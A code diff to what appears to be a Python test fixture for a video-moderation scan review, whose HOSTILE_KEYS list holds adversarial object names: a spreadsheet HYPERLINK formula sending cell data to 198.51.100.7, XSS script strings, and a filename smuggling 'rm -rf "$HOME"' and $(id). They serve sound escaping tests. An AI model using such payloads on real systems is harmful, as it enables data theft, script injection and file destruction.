@@ -17,12 +17,12 @@ BUCKET = "amzn-s3-demo-bucket"
 MADE_AT = 1_793_551_380.0
 
 HOSTILE_KEYS = (
-    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"open\").mp4",
+    '=HYPERLINK("http://198.51.100.7/?"&A1,"open").mp4',
     "<script>document.title='owned'</script>.mp4",
     "</script><img src=x onerror=\"document.title='owned'\">.mp4",
     "<!--<script>.mp4",
     "javascript:document.title='owned'//.mp4",
-    "it's; rm -rf \"$HOME\" `id` $(id) !! \\ %2e%2e {a,b} ~ # & | * ?.mp4",
+    'it\'s; rm -rf "$HOME" `id` $(id) !! \\ %2e%2e {a,b} ~ # & | * ?.mp4',
     "line\nbreak\ttab\x1b[31mred\x07\x7f.mp4",
     "invoice\u202e4pm.exe",
     "zero\u200bwidth\ufeff\u00a0space.mp4",
@@ -35,6 +35,8 @@ HOSTILE_KEYS = (
     "__proto__",
     "k" * 1_024,
 )
+
+VERSIONS = ("3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY'x", None, None)
 
 _FOLDERS = ("uploads/2019/", "uploads/2023/spring/", "archive/tapes/", "user-content/eu/", "trailers/")
 _NAMES = ("clip", "interview", "highlights", "party", "match", "holiday", "stage", "street", "review", "unboxing")
@@ -106,12 +108,12 @@ def realistic_keys(count, dice):
     return [f"{dice.choice(_FOLDERS)}{dice.choice(_NAMES)}-{number:05}.mp4" for number in range(count)]
 
 
-def review(*, flagged_count=46, failed_count=6, clean=1_180, keys=(), seed=7, unknown=None, segments=None):
-    """Return the review of a scan and its totals; `keys` are flagged too, every third of them with a version."""
+def review(*, flagged_count=46, failed_count=6, clean=1_180, keys=(), seed=7, unknown=None, segments=None, versions=VERSIONS):
+    """Return the review of a scan and its totals; `keys` are flagged too, with these `versions` in turn."""
     dice = random.Random(seed)
     found = dict(flagged(key, dice, segments=segments) for key in realistic_keys(flagged_count, dice))
     for number, key in enumerate(keys):
-        outcome, its_segments = flagged(key, dice, version=f"v.{number}-'x" if number % 3 == 0 else None, unknown=unknown)
+        outcome, its_segments = flagged(key, dice, version=versions[number % len(versions)], unknown=unknown)
         found[outcome] = its_segments
     failures = [failed(f"broken/{key}", dice) for key in realistic_keys(failed_count, dice)]
     others = [ObjectFate(Video(BUCKET, f"clean/{number}"), Fate.CLEAN) for number in range(clean)]
@@ -139,4 +141,6 @@ def page_of(made, totals, **more):
 
 def with_segments(outcome, count):
     """Return a flagged video with exactly so many segments, one a second."""
-    return FlaggedVideo(outcome, tuple(Segment("Weapons", "Violence", 2, at, at + 500, 60 + at % 40, 1) for at in range(0, count * 1_000, 1_000)))
+    return FlaggedVideo(
+        outcome, tuple(Segment("Weapons", "Violence", 2, at, at + 500, 60 + at % 40, 1) for at in range(0, count * 1_000, 1_000))
+    )
